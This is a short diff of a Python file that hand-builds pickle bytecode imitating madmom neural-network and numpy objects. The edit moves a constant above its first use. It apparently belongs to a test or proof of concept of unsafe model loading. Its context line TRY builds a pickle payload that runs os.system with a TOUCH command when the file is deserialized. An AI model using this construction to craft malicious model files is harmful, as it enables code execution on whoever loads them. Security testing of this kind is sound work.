@@ -37,6 +37,7 @@ def call(module: str, name: str, *args: bytes) -> bytes:
     return g(module, name) + b"(" + b"".join(args) + b"tR"
 
 
+NONE = b"J\xff\xff\xff\xff"
 P2, P4 = b"\x80\x02", b"\x80\x04"
 NET = g("madmom.ml.nn", "NeuralNetwork")
 LAYER = g("madmom.ml.nn.layers", "FeedForwardLayer")
@@ -45,7 +46,6 @@ NDARRAY = g("numpy", "ndarray")
 SHELL = call(*RECON, NDARRAY, b"K\x00\x85", s("b"))
 F4 = call("numpy", "dtype", s("f4"), b"K\x00", b"K\x01") + b"(K\x03" + s("<") + b"NNN" + 2 * NONE + b"K\x00tb"
 HALF = call("numpy", "dtype", s("f4"), b"K\x00", b"K\x01")  # an element type that waits for its state
-NONE = b"J\xff\xff\xff\xff"
 TRY = g("os", "system") + s(TOUCH) + b"\x85R"
 
 
